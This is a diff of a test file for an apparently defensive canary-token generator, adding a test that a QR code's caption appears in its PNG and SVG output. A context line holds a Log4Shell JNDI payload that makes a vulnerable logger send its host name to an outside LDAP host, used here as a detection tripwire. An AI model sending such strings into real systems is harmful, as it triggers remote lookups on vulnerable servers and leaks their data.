@@ -93,6 +93,14 @@ describe('document kinds: artifacts', () => {
     assert.match(text, /^%PDF-1\.7\n[\s\S]*%%EOF\n$/);
   });
 
+  test('qr: the caption goes under the code in the PNG and the SVG', () => {
+    const plain = make('qr');
+    const captioned = make('qr', { options: { caption: 'Guest Wi-Fi' } });
+    const height = (token: Token) => documentOf(token).readUInt32BE(20);
+    assert.ok(height(captioned) > height(plain), 'the captioned PNG is taller');
+    assert.match(tokenKind('qr').artifact(captioned, context).extraFiles![0]!.content, />Guest Wi-Fi<\/text>/);
+  });
+
   test('log4shell and svn hand out their string and repository dump', () => {
     const log4shell = make('log4shell');
     assert.equal(tokenKind('log4shell').artifact(log4shell, context).file!.content, `\${jndi:ldap://x\${hostName}.L4J.${log4shell.id}.canary.example.test/a}\n`);
